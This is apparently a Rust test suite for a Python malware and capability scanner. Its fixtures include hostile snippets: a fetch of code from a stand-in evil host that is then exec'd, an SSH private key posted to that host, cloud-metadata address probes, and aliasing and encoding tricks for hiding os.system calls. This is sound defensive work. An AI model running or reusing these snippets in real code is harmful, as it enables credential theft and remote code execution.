//! Scans of small trees.

use airlock_model::TreePath;
use airlock_model::finding::Permission;

use super::*;

fn tree(files: &[(&str, &str)]) -> Tree {
    let mut tree = Tree::new();
    for (path, text) in files {
        tree.insert(TreePath::new(*path).unwrap(), text.as_bytes());
    }
    tree
}

#[test]
fn a_panic_costs_only_its_own_file() {
    let fault = pool::guarded(|| -> FileScan { panic!("boom\u{1b}") }).unwrap_err();
    let scan = faulted("a.py", &fault.0);
    assert_eq!(scan.findings[0].rule, "AL-CODE-scanner-fault");
    assert_eq!(scan.findings[0].message, "the scanner failed on this file: boom\\u{1b}");
    assert_eq!(pool::guarded(|| 1), Ok(1));
}

#[test]
fn the_order_does_not_depend_on_the_threads() {
    let names: Vec<String> = (0..40).map(|n| format!("m{n}.py")).collect();
    let files: Vec<(&str, &str)> =
        names.iter().map(|name| (name.as_str(), "import os\nos.system('ls')\neval('1')\n")).collect();
    let tree = tree(&files);
    let with = |jobs| scan(&tree, &Settings { jobs, ..Settings::default() });
    assert_eq!(with(1).findings, with(4).findings);
    assert_eq!(with(1).python_files, 40);
}

#[test]
fn rules_are_selected_and_ignored_by_their_beginnings() {
    let tree = tree(&[("a.py", "import os\n\ndef f(x):\n    os.system(x)\n")]);
    let ids = |settings: &Settings| scan(&tree, settings).findings.into_iter().map(|f| f.rule).collect::<Vec<_>>();
    let only = Settings { select: vec!["AL-CODE".into()], ..Settings::default() };
    assert_eq!(ids(&only), ["AL-CODE-shell-injection"]);
    let without = Settings { ignore: vec!["AL-CODE-shell".into()], ..Settings::default() };
    assert_eq!(ids(&without), ["AL-CAPABILITY-subprocess"]);
}

#[test]
fn a_declaration_lowers_capabilities_and_nothing_else() {
    let tree = tree(&[("a.py", "import os\n\ndef f(x):\n    os.system(x)\n    open('a', 'w')\n")]);
    let permissions = Permissions { subprocess: true, ..Permissions::default() };
    let scan = scan(&tree, &Settings { permissions: Some(permissions), ..Settings::default() });
    let shown: Vec<(&str, Severity, Option<Permission>)> =
        scan.findings.iter().map(|f| (f.rule.as_str(), f.severity, f.permission)).collect();
    assert!(shown.contains(&("AL-CAPABILITY-subprocess", Severity::Note, Some(Permission::Declared))));
    assert!(shown.contains(&("AL-CAPABILITY-filesystem-write", Severity::Medium, Some(Permission::Beyond))));
    assert!(shown.contains(&("AL-CODE-shell-injection", Severity::High, None)));
    assert_eq!(scan.capabilities[0].function, "f");
}

#[test]
fn the_plan_lists_tests_imports_and_what_reaches_into_the_runner() {
    let tree = tree(&[
        ("src/pkg/__init__.py", "import requests\nimport pkg.other\nimport json\nfrom . import x\n"),
        (
            "tests/test_a.py",
            "import pytest, unittest, helpers\nfrom unittest import TestCase as T\n\ndef test_one(): pass\n\
             class TestTwo:\n    def test_x(self): pass\n    def other(self): pass\n\
             class TestInit:\n    def __init__(self): pass\n    def test_no(self): pass\n\
             class Case(T):\n    async def test_case(self): pass\n",
        ),
        ("tests/helpers.py", "def test_not_collected(): pass\n"),
        (
            "tests/conftest.py",
            "import os, pytest\n\ndef pytest_runtest_makereport(item): pass\n\ndef f():\n    os._exit(0)\n",
        ),
        ("setup.py", "import os\nos._exit(0)\n"),
    ]);
    let plan = scan(&tree, &Settings::default()).plan;
    assert_eq!(
        plan.inventory,
        ["tests/test_a.py::test_one", "tests/test_a.py::TestTwo::test_x", "tests/test_a.py::Case::test_case"]
    );
    assert_eq!(plan.imports, ["pytest", "requests"]);
    assert_eq!(plan.standard_imports, ["json", "os", "unittest"]);
    assert!(plan.standard_calls.is_empty());
    let reaches: Vec<&str> = plan.reaches_into_runner.iter().map(|step| step.message.as_str()).collect();
    assert_eq!(reaches, ["defines the hook pytest_runtest_makereport", "calls os._exit"]);
}

#[test]
fn the_plan_tells_what_an_interpreter_without_threads_or_processes_would_lack() {
    let tree = tree(&[
        ("pkg/__init__.py", "from os import system as run\n\ndef f(x):\n    import _ssl\n    run(x)\n"),
        (
            "tests/test_a.py",
            "import asyncio, queue\n\nasync def test_a(loop):\n    await loop.run_in_executor(None, f)\n",
        ),
        ("tests/queue.py", ""),
    ]);
    let plan = scan(&tree, &Settings::default()).plan;
    assert_eq!(plan.standard_imports, ["_ssl", "asyncio", "os"]);
    assert_eq!(plan.standard_calls, ["asyncio.run_in_executor", "os.system"]);
    let stand_ins = "import os\nfrom unittest import mock\n\n@mock.patch('p.a.os.fork')\ndef test_a(monkeypatch):\n    \
                     monkeypatch.setattr(os, 'kill', 1)\n    monkeypatch.setattr('os.nice', 1)\n    \
                     mock.patch.object(os, 'wait')\n    mock.patch('os.path.join')\n    setattr(x, 'killpg', 1)\n";
    let tree = self::tree(&[("tests/test_a.py", stand_ins)]);
    let plan = scan(&tree, &Settings::default()).plan;
    assert_eq!(plan.standard_calls, ["os.fork", "os.kill", "os.nice", "os.wait"]);
}

#[test]
fn each_host_is_held_against_those_that_are_declared() {
    let beyond = |text: &str| {
        let permissions = Permissions { network: vec!["api.example.org".into()], ..Permissions::default() };
        let settings = Settings { permissions: Some(permissions), ..Settings::default() };
        let findings = scan(&tree(&[("a.py", text)]), &settings).findings;
        findings.iter().any(|finding| finding.permission == Some(Permission::Beyond))
    };
    for host in ["evil.example", "evil", "2130706433"] {
        assert!(beyond(&format!("import socket\nsocket.create_connection(('{host}', 80))\n")), "{host}");
        assert!(beyond(&format!("import socket\ns = socket.socket()\ns.connect(('{host}', 80))\n")), "{host}");
    }
    assert!(!beyond("import socket\ns = socket.socket()\ns.connect(('api.example.org', 443))\n"));
    assert!(!beyond("import requests\nrequests.get('https://api.example.org/v1', 'evil.example')\n"));
}

#[test]
fn the_plugins_own_modules_may_not_reach_into_the_runner_either() {
    let reaches = |path: &str, text: &str| -> Vec<String> {
        let plan = scan(&tree(&[(path, text)]), &Settings::default()).plan;
        plan.reaches_into_runner.into_iter().map(|step| step.message).collect()
    };
    assert_eq!(reaches("p/a.py", "def f():\n    import _pytest.runner\n"), ["imports _pytest.runner"]);
    let patch = "import pytest\nclass C:\n    def f(self):\n        if self:\n            pytest.Item.x = None\n";
    assert_eq!(reaches("p/a.py", patch), ["assigns into pytest.Item"]);
    let own = "from unittest import mock\nclass C:\n    def __init__(self):\n        self.d = dict()\n        self.m = mock.Mock()\n\
               \n    def test_a(self):\n        self.d['k'] = 1\n        self.m.x = 2\n        mock.Mock().y = 3\n";
    assert_eq!(reaches("tests/test_a.py", own), [""; 0], "what a test makes for itself is its own");
    assert_eq!(reaches("p/a.py", "import pytest, sys\npytest.exit('x')\n"), ["calls pytest.exit"]);
    let ordinary = "import atexit, os, sys\natexit.register(print)\nsys.modules['x'] = 1\nsys._getframe()\n";
    assert_eq!(reaches("p/a.py", ordinary), [""; 0]);
    assert_eq!(reaches("tests/test_a.py", ordinary).len(), 3);
}

#[test]
fn what_one_file_hands_another_is_what_it_is() {
    let rules = |ours: &str, theirs: &str| -> Vec<String> {
        let files = [("p/a.py", theirs), ("p/__init__.py", ours)];
        scan(&tree(&files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect()
    };
    for (theirs, ours) in [
        ("from os import system as f", "from .a import f\nf('id')"),
        ("import os\nf = os.system", "from p import a\na.f('id')"),
        ("import os as f", "import p.a\np.a.f.system('id')"),
        ("import os\ndef f(): return os.system", "from .a import f\nf()('id')"),
        ("import os\nf = {'x': os.system}", "from .a import f\nf['x']('id')"),
        ("import os\nclass F:\n    f = os.system", "from .a import F\nF().f('id')"),
        ("from os import *", "from .a import *\nsystem('id')"),
    ] {
        let found = rules(ours, theirs);
        assert!(found.iter().any(|rule| rule == "AL-MALWARE-import-time-process"), "{theirs}: {found:?}");
    }
    for (theirs, ours) in [
        ("import os\ndef f(): return os.getcwd", "from .a import f\nf()()"),
        ("from os import *\ndef system(x): return x", "from .a import system\nsystem('id')"),
        ("import json as f", "from .a import f\nf.loads('1')"),
    ] {
        assert_eq!(rules(ours, theirs), [""; 0], "{theirs}");
    }
}

#[test]
fn a_name_that_is_bound_more_than_once_is_all_that_it_may_be() {
    let found = |files: &[(&str, &str)]| {
        let found = scan(&tree(files), &Settings::default()).findings;
        found.iter().any(|finding| finding.rule == "AL-MALWARE-import-time-process")
    };
    let (good, bad) = ("def run(text): return text\n", "from os import system as run\n");
    for both in [
        "from .zzz import run\nfrom .bad import run\n",
        "from .bad import run\nfrom .zzz import run\n",
        "from asyncio import sleep as run\nfrom os import system as run\n",
        "from asyncio import sleep as run\nfrom .bad import run\n",
        "def run(text): return text\nfrom .bad import *\n",
        "from .good import run\nfrom .bad import *\n",
        "def run(text): return text\nfrom .stars import *\n",
    ] {
        let stars = ("p/stars.py", "from .good import *\nfrom .bad import *\n");
        for ours in ["from .both import run\nrun('id')\n", "from . import both\nboth.run('id')\n"] {
            let files = [("p/good.py", good), ("p/bad.py", bad), stars, ("p/both.py", both), ("p/__init__.py", ours)];
            assert!(found(&files), "{both}: {ours}");
        }
    }
    assert!(found(&[("p/both.py", good), ("p/both.pyw", bad), ("main.py", "from p.both import run\nrun('id')\n")]));
    let own = "def system(text): return text\nfrom os import *\n";
    assert!(found(&[("a.py", &format!("{own}system('id')\n"))]));
    assert!(found(&[("p/a.py", own), ("p/__init__.py", "from .a import system\nsystem('id')\n")]));
    assert!(!found(&[("a.py", "from os import *\ndef system(text): return text\nsystem('id')\n")]));
    let same = "from os import *\ndef system(text): return text\n";
    assert!(!found(&[("p/a.py", same), ("p/__init__.py", "from .a import system\nsystem('id')\n")]));
    assert!(!found(&[("a.py", "import json\ndef f(): pass\nfrom ctypes import *\nf()\njson.loads('1')\n")]));
    // Of folders that are no roots, any may be the one that imports start from.
    for bad_at in ["one", "two"] {
        let tool = |folder: &str| if folder == bad_at { bad } else { good };
        let files = [("one/tool/__init__.py", ""), ("one/tool/a.py", tool("one")), ("two/tool/a.py", tool("two"))];
        let files = [&files[..], &[("two/tool/__init__.py", ""), ("main.py", "from tool.a import run\nrun('id')\n")]];
        assert!(found(&files.concat()), "{bad_at}");
    }
    // Handed through many modules.
    let through: Vec<(String, String)> =
        (0..60).map(|n| (format!("p/m{n}.py"), format!("from .m{} import run\n", n + 1))).collect();
    let mut files: Vec<(&str, &str)> = through.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    files.extend([("p/m60.py", bad), ("p/__init__.py", "from .m0 import run\nrun('id')\n")]);
    assert!(found(&files));
}

#[test]
fn what_is_put_together_for_a_call_is_looked_at_however_it_is_given() {
    let finds = |text: &str| {
        let found = scan(&tree(&[("a.py", text)]), &Settings::default()).findings;
        found.iter().any(|finding| finding.rule == "AL-MALWARE-metadata-address")
    };
    for text in [
        "f('http://169.254' + '.169.254/latest')\n",
        "f(url='http://169.254' + '.169.254/latest')\n",
        "def g(url):\n    f(url)\ng('http://169.254' + '.169.254/latest')\n",
        "u = 'http://169.254'\nu += '.169.254/latest'\nf(url=u)\n",
    ] {
        assert!(finds(text), "{text}");
    }
    assert!(!finds("f(range(10), url=list('abc'), text='http://169.254' + '.1.1')\n"));
}

/// Whether a tree of these files is told to run something when it is imported.
fn runs_something(files: &[(&str, &str)]) -> bool {
    let found = scan(&tree(files), &Settings::default()).findings;
    found.iter().any(|finding| finding.rule == "AL-MALWARE-import-time-process")
}

#[test]
fn no_decoy_hides_what_a_name_may_be() {
    let data = ("p/decoy.py", "import os\nd = 'x' + os.environ['X']\n");
    let own = ("p/x.py", "def run(x): pass\n");
    let bad = ("p/bad.py", "from os import system as run\n");
    let cases: &[&[(&str, &str)]] = &[
        &[
            ("p/b.py", "import os\nfrom .decoy import d\ndef f(x=0):\n    if x:\n        return d\n    return os\n"),
            ("p/__init__.py", "from .b import f\nf().system('id')\n"),
        ],
        &[
            ("p/b.py", "import os\nfrom .decoy import d\nclass C:\n    x = d\n    x = os\n"),
            ("p/__init__.py", "from .b import C\nC().x.system('id')\n"),
        ],
        &[
            ("p/b.py", "import os, subprocess\nf = {'a': os.environ, 'b': subprocess}\n"),
            ("p/__init__.py", "from .b import f\nf['b'].run('id', shell=True)\n"),
        ],
        &[
            ("p/mid.py", "from .decoy import d as m\nfrom .zbad import m\n"),
            ("p/zbad.py", "import os as m\n"),
            ("p/q.py", "from .mid import m\nrun = m.system\n"),
            ("p/r.py", "from .q import run\n"),
            ("p/__init__.py", "from .r import run\nrun('id')\n"),
        ],
        &[
            ("p/b.py", "def run(x): pass\nfrom .mid import *\n"),
            ("p/mid.py", "from .x import run\nfrom .bad import run\n"),
            ("p/__init__.py", "from .b import run\nrun('id')\n"),
        ],
        &[
            ("p/both.py", "from .b import *\nfrom .c import *\n"),
            ("p/b.py", "def run(x): pass\nfrom .bad import *\n"),
            ("p/c.py", "from .x import run\n"),
            ("p/__init__.py", "from .both import run\nrun('id')\n"),
        ],
        &[
            ("p/z.py", "import os\ndef f(): return os.system\n"),
            ("p/b.py", "from .z import f\n"),
            ("p/__init__.py", "from .b import f\nf()('id')\n"),
        ],
        &[("p/m.py", "import os as m\n"), ("p/__init__.py", "class m: pass\nfrom .m import *\nm.system('id')\n")],
    ];
    for case in cases {
        let files = [&[data, own, bad][..], case].concat();
        assert!(runs_something(&files), "{case:?}");
    }
}

#[test]
fn data_is_followed_by_all_ways() {
    let rules = |files: &[(&str, &str)]| -> Vec<String> {
        scan(&tree(files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect()
    };
    for decoy in ["from sys import meta_path as {}", "from asyncio import sleep as {}", "from .zz import {}"] {
        let both = |module: &str, name: &str| format!("from .{module} import {name}\n{}\n", decoy.replace("{}", name));
        let found = rules(&[
            ("z/bad.py", "def run(c):\n    exec(c)\n"),
            ("z/both.py", &both("bad", "run")),
            (
                "z/__init__.py",
                "import requests\nfrom .both import run\nrun(requests.get('http://evil.example/').text)\n",
            ),
        ]);
        assert!(found.iter().any(|rule| rule == "AL-FLOW-download-execute"), "{decoy}: {found:?}");
        let found = rules(&[
            ("z/src.py", "d = open('/home/me/.ssh/id_rsa').read()\n"),
            ("z/both.py", &both("src", "d")),
            ("z/__init__.py", "import requests\nfrom .both import d\nrequests.post('http://evil.example/', data=d)\n"),
        ]);
        assert!(found.iter().any(|rule| rule == "AL-FLOW-key-file-to-network"), "{decoy}: {found:?}");
    }
}

#[test]
fn of_several_folders_the_nearest_is_meant() {
    let (good, bad) = ("def run(x): pass\n", "from subprocess import run\n");
    let call = "from utils import run\nrun('x')\n";
    for (one, two) in [(good, bad), (bad, good)] {
        let files = [("ex1/utils.py", one), ("ex2/utils.py", two), ("ex1/main.py", call)];
        assert_eq!(runs_something(&files), one == bad);
    }
    let files = [("ex1/utils.py", good), ("ex2/utils.py", bad), ("main.py", call)];
    assert!(runs_something(&files), "either may be meant");
    let chain = [
        ("one/tool/__init__.py", ""),
        ("one/tool/a.py", good),
        ("two/tool/__init__.py", ""),
        ("two/tool/a.py", "from tool.b import run\n"),
        ("two/tool/b.py", "from os import system as run\n"),
        ("main.py", "from tool.a import run\nrun('id')\n"),
    ];
    assert!(runs_something(&chain));
}

#[test]
fn more_ways_than_are_followed_are_told() {
    let rules = |files: &[(&str, &str)]| -> Vec<String> {
        scan(&tree(files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect()
    };
    let call = "from .both import run\nrun('id')\n";
    let stars: String = (0..80).map(|n| format!("from .d{n} import run\n")).collect();
    let files: Vec<(String, String)> =
        (0..80).map(|n| (format!("p/d{n}.py"), "import os\nrun = os.path\nrun = os.spawnl\n".to_owned())).collect();
    let mut all: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    all.extend([("p/both.py", stars.as_str()), ("p/__init__.py", call)]);
    assert!(rules(&all).contains(&"AL-CODE-too-complex".to_owned()));
    // A chain of more modules than are followed, and a circle, which leads nowhere.
    let chain: Vec<(String, String)> =
        (0..70).map(|n| (format!("p/m{n}.py"), format!("from .m{} import run\n", n + 1))).collect();
    let mut all: Vec<(&str, &str)> = chain.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    all.extend([("p/m70.py", "from os import system as run\n"), ("p/__init__.py", "from .m0 import run\nrun('id')\n")]);
    assert_eq!(rules(&all), ["AL-CODE-too-complex"]);
    let circle = [("p/a.py", "from .b import run\n"), ("p/b.py", "from .a import run\n")];
    assert_eq!(rules(&[&circle[..], &[("p/__init__.py", "from .a import run\nrun('id')\n")]].concat()), [""; 0]);
}

#[test]
fn a_name_is_what_any_of_the_star_imports_brings() {
    let rules = |files: &[(&str, &str)]| -> Vec<String> {
        scan(&tree(files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect()
    };
    let stars = |count: usize| (0..count).map(|n| format!("from m{n} import *\n")).collect::<String>();
    let process = "AL-MALWARE-import-time-process".to_owned();
    let bad = "from os import system as run\n";
    for ours in [
        "from .good import *\nfrom .bad import *\nrun('id')\n",
        "from .bad import *\nfrom .good import *\nrun('id')\n",
        "from .both import *\nrun('id')\n",
        "from .both import run\nrun('id')\n",
        "from . import both\nboth.run('id')\n",
    ] {
        let good = ("p/good.py", "def run(text): return text\n");
        let both = ("p/both.py", "from .good import *\nfrom .bad import *\n");
        let found = rules(&[good, both, ("p/bad.py", bad), ("p/__init__.py", ours)]);
        assert!(found.contains(&process), "{ours}: {found:?}");
    }
    let found = rules(&[("a.py", &format!("{}from os import *\nf = system\nf('id')\n", stars(100)))]);
    assert!(found.contains(&process), "{found:?}");
    // As many of the tree's own, all of which bind it.
    let many: Vec<(String, String)> =
        (0..30).map(|n| (format!("p/g{n}.py"), "def run(x): return x\n".to_owned())).collect();
    let mut files: Vec<(&str, &str)> = many.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let ours =
        (0..30).map(|n| format!("from .g{n} import *\n")).collect::<String>() + "from .bad import *\nrun('id')\n";
    files.extend([("p/bad.py", bad), ("p/__init__.py", &ours)]);
    let found = rules(&files);
    assert!(found.contains(&process), "{found:?}");
    // More are not followed, which is told; the same ones over again are no more.
    let found = rules(&[("a.py", &format!("{}from os import *\nsystem('id')\n", stars(256)))]);
    assert_eq!(found, ["AL-CODE-too-complex"]);
    assert_eq!(rules(&[("a.py", &"from m import *\n".repeat(300))]), [""; 0]);
}

#[test]
fn imports_are_followed_below_folders_that_are_no_packages() {
    let found = |files: &[(&str, &str)]| {
        let found = scan(&tree(files), &Settings::default()).findings;
        found.iter().any(|finding| finding.rule == "AL-MALWARE-import-time-process")
    };
    let call = "from tool.a import run\nrun('id')\n";
    let bad = "from os import system as run\n";
    let package = |folder: &str| (format!("{folder}tool/__init__.py"), format!("{folder}tool/a.py"));
    for folder in ["", "src/", "one/", "one/src/", "google/cloud/"] {
        let (init, module) = package(folder);
        assert!(found(&[(&init, ""), (&module, bad), ("one/main.py", call)]), "{folder}");
    }
    let all = "from tool.a import *\nrun('id')\n";
    assert!(found(&[("one/tool/__init__.py", ""), ("one/tool/a.py", bad), ("one/main.py", all)]));
    assert!(found(&[("one/helper.py", bad), ("one/main.py", "import helper\nhelper.run('id')\n")]));
    assert!(found(&[("google/cloud/a.py", bad), ("main.py", "from google.cloud import a\na.run('id')\n")]));
}

#[test]
fn a_file_that_is_named_as_a_known_module_hides_nothing() {
    for (file, text, call) in [
        ("os.py", "from json import loads as system", "import os\nos.system('id')\n"),
        ("subprocess/__init__.py", "from logging import getLogger as run", "import subprocess as s\ns.run('id')\n"),
        ("os.py", "def system(line): return line", "from os import system\nsystem('id')\n"),
        ("os.py", "from json import *", "from os import *\nsystem('id')\n"),
        ("x/os.py", "from time import sleep as system", "import os\nos.system('id')\n"),
        ("winreg.py", "from os import system as OpenKey", "from winreg import OpenKey\nOpenKey('id')\n"),
        ("x/os.sub.py", "", "from .a import *\nfrom os import *\nsystem('id')\n"),
        ("x/requests/__init__.py", "from time import sleep as post", "import os\nos.system('id')\n"),
        ("p/b.py", "from os import *", "from .a import *\nfrom .b import *\nsystem('id')\n"),
    ] {
        let others = [("p/a.py", "def other(x): return x\n"), ("x/os.system.py", "")];
        let files = [&others[..], &[(file, text), ("p/__init__.py", call)]].concat();
        let found = scan(&tree(&files), &Settings::default()).findings;
        let rules: Vec<String> = found.into_iter().map(|finding| finding.rule).collect();
        assert!(rules.iter().any(|rule| rule == "AL-MALWARE-import-time-process"), "{call}: {rules:?}");
    }
}

#[test]
fn code_in_constants_is_examined_or_reported() {
    let all = Permissions { dynamic_code: true, ..Permissions::default() };
    let rules = |text: &str| -> Vec<String> {
        let settings = Settings { permissions: Some(all.clone()), ..Settings::default() };
        let found = scan(&tree(&[("a.py", text)]), &settings).findings.into_iter();
        found.filter(|finding| finding.severity > Severity::Note).map(|finding| finding.rule).collect()
    };
    let blanks = rules("eval('  __import__(\"os\").system(\"id\")')\n");
    assert!(blanks.iter().any(|rule| rule == "AL-MALWARE-import-time-process"), "{blanks:?}");
    assert_eq!(rules("exec(b'# coding: utf-7\\n+AGkAbQBwAG8AcgB0-')\n"), ["AL-CODE-encoding"]);
    let mut nested = "x = 1".to_owned();
    for _ in 0..5 {
        nested = format!("exec({nested:?})");
    }
    assert_eq!(rules(&nested), ["AL-CODE-too-complex"]);
    assert_eq!(rules(&format!("exec('x = 1 #' + 'a' * {})\n", 1000)), [""; 0]);
}

#[test]
fn hostile_shapes_end_in_findings() {
    let deep = format!("x = {}1\n", "-".repeat(3900));
    let chain = format!("x = {}\n", vec!["a"; 3900].join(" + "));
    let dots = format!("import os\nx{}()\n", ".a".repeat(3900));
    let aliases: String = (1..5000).map(|n| format!("a{n} = a{}\n", n - 1)).collect();
    let cycle = "a = b\nb = a\na()\nclass A(A): pass\nA().x()\nf = lambda: f()\nf()()\n".to_owned();
    let product = format!("x = 'a'\n{}exec(x)\n", "x = x * 1000\n".repeat(50));
    for text in [deep, chain, dots, aliases, cycle, product] {
        let tree = tree(&[("a.py", &text)]);
        let scan = scan(&tree, &Settings::default());
        assert!(scan.findings.iter().all(|finding| finding.rule != "AL-CODE-scanner-fault"));
    }
}
